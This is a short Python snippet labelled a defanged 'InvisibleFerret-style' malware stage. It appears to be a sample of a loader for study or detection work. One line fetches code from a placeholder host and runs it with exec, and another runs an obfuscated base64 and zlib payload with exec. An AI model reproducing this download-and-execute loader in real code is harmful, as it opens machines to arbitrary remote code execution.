# InvisibleFerret-style stage (defanged): a fetched and a decoded payload.
import base64, zlib, requests

exec(requests.get('http://updates.example.invalid/client/9').text)
exec(zlib.decompress(base64.b64decode(b'eJwrzs9JVUhJzU3NzUnVUygpTS1WSM5PSS1KzM1JzNNRSM7PS0nNS81LLS4pzU0FAG+wEZk=')))
